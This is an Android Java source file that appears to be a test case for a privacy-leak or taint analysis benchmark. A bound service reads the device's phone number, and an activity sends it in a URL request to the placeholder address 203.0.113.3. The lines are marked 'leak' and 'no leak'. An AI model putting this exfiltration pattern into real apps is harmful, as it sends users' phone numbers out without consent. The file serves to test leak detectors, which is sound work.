package habits;

import android.app.Service;
import android.content.ComponentName;
import android.content.Context;
import android.content.Intent;
import android.content.ServiceConnection;
import android.os.Binder;
import android.os.IBinder;
import android.telephony.TelephonyManager;
import android.app.Activity;
import android.os.Bundle;
import java.net.URL;

/** A service in the same process that gives what it knows. */
public class Bound extends Service {
    class Local extends Binder {
        Bound service() {
            return Bound.this;
        }
    }

    String number() {
        return ((TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE)).getLine1Number();
    }

    String version() {
        return "1";
    }

    @Override
    public IBinder onBind(Intent intent) {
        return new Local();
    }

    public static class User extends Activity implements ServiceConnection {
        @Override
        protected void onStart() {
            super.onStart();
            bindService(new Intent(this, Bound.class), this, BIND_AUTO_CREATE);
        }

        @Override
        public void onServiceConnected(ComponentName name, IBinder binder) {
            Bound service = ((Local) binder).service();
            try {
                new URL("http://203.0.113.3/1/" + service.number()).openStream(); // leak
                new URL("http://203.0.113.3/2/" + service.version()).openStream(); // no leak
            } catch (Exception ignored) {
            }
        }

        @Override
        public void onServiceDisconnected(ComponentName name) {
        }
    }
}
